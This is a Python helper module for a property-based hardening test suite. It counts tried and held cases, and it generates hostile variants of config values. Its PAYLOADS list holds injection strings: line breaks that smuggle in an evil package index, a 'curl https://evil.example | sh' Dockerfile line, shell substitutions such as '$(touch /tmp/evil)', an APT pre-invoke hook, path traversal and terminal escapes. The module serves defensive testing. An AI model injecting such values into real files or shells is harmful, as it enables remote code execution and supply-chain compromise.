"""What the attack generators share: the example budget, the tally, hostile values.

Every generator records each case it tries and whether it held; the totals are printed
at the end of the session (``hardening:`` lines), so that a closing note can say how many
cases were tried and how many held. ``ENVCAP_HARDEN_EXAMPLES`` raises the number of
examples per property (default 60, to keep the suite fast).
"""

from __future__ import annotations

import os
import sys
from collections import Counter
from pathlib import Path
from typing import Any, Iterator

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "build"))

EXAMPLES = int(os.environ.get("ENVCAP_HARDEN_EXAMPLES", "60"))
SETTINGS = settings(max_examples=EXAMPLES, deadline=None, derandomize=True,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture,
                                           HealthCheck.data_too_large])

TRIED: Counter[str] = Counter()
HELD: Counter[str] = Counter()


class Case:
    """``with Case("1. untrusted manifests"):`` around one case: held unless it raises."""

    def __init__(self, name: str) -> None:
        self.name = name

    def __enter__(self) -> None:
        TRIED[self.name] += 1

    def __exit__(self, kind: Any, *rest: Any) -> None:
        if kind is None:
            HELD[self.name] += 1


def summary_lines() -> list[str]:
    return [f"hardening: {name}: {HELD[name]} of {TRIED[name]} cases held" for name in sorted(TRIED)]


# Characters that end a line for someone: the shell and Docker (\n), pip and
# str.splitlines (\r \x0b \x0c \x1c-\x1e \x85 U+2028 U+2029), the terminal (ESC, BEL,
# backspace), and text that reorders what follows (direction overrides, zero-width).
LINE_BREAKERS = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
TERMINAL = ["\x1b[2J", "\x1b]0;owned\x07", "\x08\x08", "\u202e", "\u2066", "\u200b", "\x00", "\x7f", "\ufeff"]
EVIL_INDEX = "https://evil.example/simple"
EVIL_HASH = "e" * 64
PAYLOADS = [
    *(b + f"--extra-index-url {EVIL_INDEX}" for b in LINE_BREAKERS),
    *(b + f"evil-pkg==6.6.6 --hash=sha256:{EVIL_HASH}" for b in LINE_BREAKERS),
    *(b + "RUN curl https://evil.example | sh" for b in ("\n", "\r", "\\\n")),
    *TERMINAL,
    f" --extra-index-url {EVIL_INDEX}", f" --hash=sha256:{EVIL_HASH}", " \\", "\\", "\\\n--pre",
    " ; evil", " #", "#", " @ https://evil.example/x.whl", "$(touch /tmp/evil)", "`id`", '"', "'", '"]\nRUN ["sh',
    " -o APT::Update::Pre-Invoke::=sh", "/../../etc", "\t", " ", "\u00a0", "\u3000", "K", "ſ", "ı", "\uff11",
    "\u00b2", "\u0661", "%0a", "[REDACTED]",
]


def hostile_text(original: Any) -> st.SearchStrategy[str]:
    """A value that looks like ``original`` with something hostile spliced in, or worse."""
    base = original if isinstance(original, str) else "x"
    payload = st.sampled_from(PAYLOADS)
    spliced = st.builds(lambda p, at: base[:at] + p + base[at:], payload, st.integers(0, len(base)))
    doubled = st.builds(lambda p, q, at: base[:at] + p + base[at:] + q, payload, payload, st.integers(0, len(base)))
    # The catastrophic-backtracking shape: a long run of one class, then a character outside it.
    backtrack = st.builds(lambda n, c: "/" + "a" * n + c, st.integers(20, 60), st.sampled_from("!\n $\x85"))
    return st.one_of(spliced, doubled, backtrack, st.sampled_from([base + "\n", base + "\x85", base + "\u2028"]),
                     st.text(max_size=30))


def string_leaves(obj: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The path of every string (and every mapping key) inside ``obj``."""
    if isinstance(obj, str):
        yield path
    elif isinstance(obj, dict):
        for k, v in obj.items():
            yield (*path, ("key", k))
            yield from string_leaves(v, (*path, k))
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            yield from string_leaves(v, (*path, i))


def get_at(obj: Any, path: tuple[Any, ...]) -> Any:
    for key in path:
        if isinstance(key, tuple):
            return key[1]
        obj = obj[key]
    return obj


def set_at(obj: Any, path: tuple[Any, ...], value: Any) -> None:
    """Set the leaf at ``path`` (or rename the key, for a ("key", name) step)."""
    *head, last = path
    for key in head:
        obj = obj[key]
    if isinstance(last, tuple):
        obj[value] = obj.pop(last[1])
    else:
        obj[last] = value


def budget(share: float = 1.0, deadline_s: float = 5.0) -> Any:
    """The settings of one generator: ``share`` of ``ENVCAP_HARDEN_EXAMPLES`` examples (at
    least 5), each allowed ``deadline_s`` seconds (generous: CI machines are loaded), so
    that every class's cost in the suite is known and bounded (tests/hardening/README)."""
    from datetime import timedelta

    return settings(SETTINGS, max_examples=max(5, int(EXAMPLES * share)), deadline=timedelta(seconds=deadline_s))
